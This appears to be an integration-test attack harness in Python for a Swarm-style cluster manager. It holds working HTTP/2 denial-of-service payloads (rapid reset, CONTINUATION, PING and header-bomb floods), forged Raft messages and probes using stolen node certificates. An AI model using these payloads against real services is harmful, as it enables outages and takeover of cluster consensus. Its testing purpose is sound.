"""Attacks that run as a process of their own in a host's network; each prints as JSON what it achieved.

    python -m integration.attacks table IP:PORT DIRECTORY      every method with a node's certificate: {method: code}
    python -m integration.attacks call IP:PORT DIRECTORY NAME  one method: [code, text]
    python -m integration.attacks raft IP:PORT DIRECTORY ID  Raft's messages to this member: {type: [code, text]}
    python -m integration.attacks flood IP:PORT DIRECTORY      all floods, again and again: {flood: connections lost}

DIRECTORY holds the certificates that were stolen from a node; "-" for none.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import ssl
import sys
from collections.abc import AsyncIterator
from pathlib import Path

from google.protobuf.message import Message

from certs.keys import load_private_key, new_csr, new_private_key, private_key_pem
from certs.tls import ClientTls, Credentials, client_context
from swarm import api
from swarm.address import parse_host_port
from swarm.api import raftpb, rpc
from swarm.api.methods import METHODS, AnyMethod
from swarm.errors import SwarmError
from swarm.grpc import frames as h2
from swarm.grpc import wire
from swarm.grpc.frames import ErrorCode
from swarm.io.grpc import client

CALL_TIMEOUT_S = 10.0
FLOOD_S = 0.5
ENDED_WITHIN_S = 30.0
FLOODERS = 4
CHUNK_BYTES = 1 << 18
UNKNOWN_RAFT_ID = 4242

_GREETING = h2.PREFACE + h2.settings_frame({})
_NO_WINDOW = h2.PREFACE + h2.settings_frame({h2.INITIAL_WINDOW_SIZE: 0})
_CALL = wire.request_block(METHODS["CA/GetRootCACertificate"].path, "swarm-ca", secure=True)
_ISSUE = wire.request_block(METHODS["NodeCA/IssueNodeCertificate"].path, "swarm-ca", secure=True)


def _streams(each: bytes, after: bytes = b"") -> bytes:
    """A few thousand streams, each with this header block and what follows it; ids are filled in."""
    frames = []
    for stream in range(1, 4001, 2):
        frames.append(h2.header_frames(stream, each, False, h2.DEFAULT_FRAME_BYTES))
        frames.append(after.replace(b"\0\0\0\xee", stream.to_bytes(4, "big")))
    return b"".join(frames)


_BOMB = b"\x40\x01a\x7f\x81\x1e" + b"v" * 4000 + b"\xbe" * 9999
_HALF_REQUEST = h2.frame(h2.DATA, 0, 0xEE, (30_000).to_bytes(5, "big") + b"x" * 2_000)
FLOODS = {
    "nothing": b"",
    "half a handshake": b"",
    "no greeting": h2.PREFACE[:20],
    "rapid reset": _GREETING + _streams(_CALL, h2.frame(h2.RST_STREAM, 0, 0xEE, bytes((0, 0, 0, ErrorCode.CANCEL)))),
    "CONTINUATION": _GREETING + h2.frame(h2.HEADERS, 0, 1, b"\x83") + h2.frame(h2.CONTINUATION, 0, 1) * 20_000,
    "PING": _GREETING + h2.frame(h2.PING, 0, 0, b"12345678") * 20_000,
    "SETTINGS": _GREETING + h2.settings_frame({h2.INITIAL_WINDOW_SIZE: 7}) * 20_000,
    "headers": _GREETING + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, _BOMB),
    "long frames": _GREETING + b"\xff\xff\xff\0\0\0\0\0\1" + b"x" * CHUNK_BYTES,
    "half requests": _GREETING + _streams(_ISSUE, _HALF_REQUEST),
    "answers that are not read": _NO_WINDOW + _streams(_CALL, h2.frame(h2.DATA, h2.END_STREAM, 0xEE, b"\0" * 5)),
    "guesses": _GREETING
    + _streams(_ISSUE, h2.frame(h2.DATA, h2.END_STREAM, 0xEE, wire.frame_message(b"\x12\x01x\x1a\x09SWMTKN-1-"))),
    "not TLS": b"GET / HTTP/1.1\r\n\r\n" * 10_000,
}
_WITHOUT_TLS = ("half a handshake", "not TLS")
ENDED = ("rapid reset", "CONTINUATION", "PING", "SETTINGS", "headers", "long frames")
"""The floods whose connections the other side has to end."""


def stolen(directory: str) -> Credentials | None:
    """The certificate and key of a node from its disk."""
    if directory == "-":
        return None
    key = load_private_key((Path(directory) / "swarm-node.key").read_bytes())
    return Credentials((Path(directory) / "swarm-node.crt").read_bytes(), private_key_pem(key))


async def _connect(address: str, credentials: Credentials | None) -> client.ClientConnection:
    return await client.connect(address, ClientTls("swarm-manager", None, credentials), CALL_TIMEOUT_S)


async def call(address: str, credentials: Credentials | None, method: AnyMethod) -> tuple[int, str]:
    """(gRPC status, text) of a call with an empty message; (0, "") when it is let in."""
    connection = await _connect(address, credentials)
    try:
        if method.client_streaming:
            await connection.client_stream(method, _nothing(), timeout_s=CALL_TIMEOUT_S)
        elif method.server_streaming:
            stream = connection.stream(method, method.request(), timeout_s=1.0)
            await anext(stream)
        else:
            await connection.unary(method, method.request(), timeout_s=CALL_TIMEOUT_S)
    except SwarmError as error:
        return int(error.code), error.message
    finally:
        connection.close()
    return 0, ""


async def renewal(address: str, credentials: Credentials | None) -> tuple[int, str]:
    """(gRPC status, text) of a request for another certificate; whoever asked forgets what he gets."""
    connection = await _connect(address, credentials)
    request = api.IssueNodeCertificateRequest(csr=new_csr(new_private_key()))
    try:
        await connection.unary(rpc.ISSUE_NODE_CERTIFICATE, request, timeout_s=CALL_TIMEOUT_S)
    except SwarmError as error:
        return int(error.code), error.message
    finally:
        connection.close()
    return 0, ""


async def _nothing() -> AsyncIterator[Message]:
    nothing: tuple[Message, ...] = ()
    for message in nothing:
        yield message


async def table(address: str, credentials: Credentials | None) -> dict[str, int]:
    """What each method answers."""
    return {name: (await call(address, credentials, method))[0] for name, method in METHODS.items()}


async def raft(address: str, credentials: Credentials | None, raft_id: int) -> dict[str, tuple[int, str]]:
    """What each type of Raft's messages is answered: with a far newer term, and what would replace the store."""
    answers = {}
    for kind in raftpb.MessageType.values():
        message = raftpb.Message(to=raft_id, term=1 << 20, index=1, commit=2)
        message.type = kind  # type: ignore[assignment]
        setattr(message, "from", UNKNOWN_RAFT_ID)
        if kind == raftpb.MsgApp:
            message.entries.add(Index=2, Term=message.term)
        elif kind == raftpb.MsgSnap:
            message.snapshot.metadata.index, message.snapshot.metadata.term = 1 << 20, message.term
        connection = await _connect(address, credentials)
        try:
            request = api.ProcessRaftMessageRequest(message=message)
            await connection.unary(rpc.PROCESS_RAFT_MESSAGE, request, timeout_s=CALL_TIMEOUT_S)
            answer = 0, ""
        except SwarmError as error:
            answer = int(error.code), error.message
        finally:
            connection.close()
        answers[raftpb.MessageType.Name(kind)] = answer
    return answers


async def flood(address: str, credentials: Credentials | None) -> dict[str, int]:
    """Each flood for a while from a few connections at once, anew whenever one is lost; how many were lost.

    The anonymous connections of an address are limited, so after one flood the next may have to wait for its first
    connection: a flood that has to be ended goes on until it was.
    """
    lost = {}
    for name, words in FLOODS.items():
        counter = itertools.count()
        ended = asyncio.Event()
        tasks = [
            asyncio.create_task(_flooder(address, credentials, name, words, counter, ended)) for _ in range(FLOODERS)
        ]
        await asyncio.wait(tasks, timeout=FLOOD_S)
        if name in ENDED:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(ended.wait(), ENDED_WITHIN_S)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        lost[name] = next(counter)
    return lost


async def _flooder(
    address: str,
    credentials: Credentials | None,
    name: str,
    words: bytes,
    counter: itertools.count[int],
    ended: asyncio.Event,
) -> None:
    host, port = parse_host_port(address)
    context = None
    if name not in _WITHOUT_TLS:
        context = client_context(ClientTls("swarm-manager", None, credentials))
    while True:
        try:
            reader, writer = await asyncio.open_connection(
                host, port, ssl=context, server_hostname="swarm-manager" if context else None
            )
        except OSError:
            await asyncio.sleep(0.01)
            continue
        try:
            for start in range(0, len(words), CHUNK_BYTES):
                writer.write(words[start : start + CHUNK_BYTES])
                await writer.drain()
            if name != "answers that are not read":
                while await reader.read(1 << 16):
                    pass
            else:
                await asyncio.sleep(FLOOD_S)
            next(counter)
        except (OSError, ssl.SSLError):
            next(counter)
        finally:
            writer.transport.abort()
        ended.set()


def main(arguments: list[str]) -> None:
    """The command line."""
    what, address, directory, *rest = arguments
    credentials = stolen(directory)
    if what == "call":
        print(json.dumps(asyncio.run(call(address, credentials, METHODS[rest[0]]))))
    elif what == "renewal":
        print(json.dumps(asyncio.run(renewal(address, credentials))))
    elif what == "raft":
        print(json.dumps(asyncio.run(raft(address, credentials, int(rest[0])))))
    elif what == "table":
        print(json.dumps(asyncio.run(table(address, credentials))))
    else:
        print(json.dumps(asyncio.run(flood(address, credentials))))


if __name__ == "__main__":
    main(sys.argv[1:])
